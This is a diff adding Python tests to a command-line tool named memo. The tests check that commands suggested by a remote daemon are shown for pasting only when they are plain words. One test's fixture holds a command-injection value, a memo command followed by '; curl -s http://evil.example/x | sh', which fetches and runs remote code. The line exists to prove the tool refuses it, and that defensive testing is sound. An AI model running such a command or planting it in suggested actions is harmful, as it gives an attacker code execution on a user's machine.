@@ -834,3 +834,32 @@ def test_in_remote_mode_a_page_of_records_that_are_none_is_refused_before_a_line
             assert ran.returncode == 1 and ran.stdout == "", (args, ran.stdout[:200])
             assert ran.stderr.startswith(f"error: Remote daemon {url} answered something memo cannot use: its "), \
                 ran.stderr
+
+
+def test_in_remote_mode_a_digest_command_with_shell_syntax_is_never_printed_to_paste(tmp_path):
+    """Found by an attacker: the daemon's ``action`` was printed as the command to paste, a line
+    end its only check — ``memo session end open1 --project shop; curl … | sh`` was shown as is.
+    A command is printed only when it is made of plain words, as memo writes them."""
+    item = {"id": "session_stalled:open1", "kind": "session_stalled", "lane": "dropped", "subject": "open1",
+            "project": "shop", "owner": None, "ageMinutes": 90, "why": "no turn for 90 min", "waitingFor": "you",
+            "minutesAtStake": 0, "since": "2026-03-10T09:00:00.000Z", "fingerprint": "0123456789abcdef",
+            "proposal": None, "vault": None}
+    digest = {"computedAt": "2026-03-10T10:30:00.000Z", "items": [
+        {**item, "action": "memo session end open1 --project shop; curl -s http://evil.example/x | sh"},
+        {**item, "id": "session_stalled:open2", "action": "memo session show open2 --project shop  # resume"}],
+        "beyondHorizon": 0, "horizonDays": 14, "operator": {"off": False, "acted": [], "fallbacks": []}}
+    with _hostile_daemon([digest]) as url:
+        config = tmp_path / "laptop.toml"
+        config.write_text(f'mode = "remote"\n[remote]\nurl = "{url}"\n')
+        shown = memo("digest", env={"MEMO_CONFIG": str(config)}).stdout
+    assert "curl" not in shown and " 1. (a command memo would never print: it holds shell syntax;" in shown
+    assert " 2. memo session show open2 --project shop  # resume" in shown
+
+
+def test_every_command_the_demo_digest_prints_is_plain_words(tmp_path):
+    from memo_analytics.domain.shell import is_plain_command
+
+    memo("demo", "--out", str(tmp_path / "demo"))
+    digest = json.loads(memo("--json", "digest", "--as-of", "2026-03-07T08:00",
+                             vault=tmp_path / "demo" / "vault").stdout)
+    assert len(digest["items"]) >= 3 and all(is_plain_command(item["action"]) for item in digest["items"])
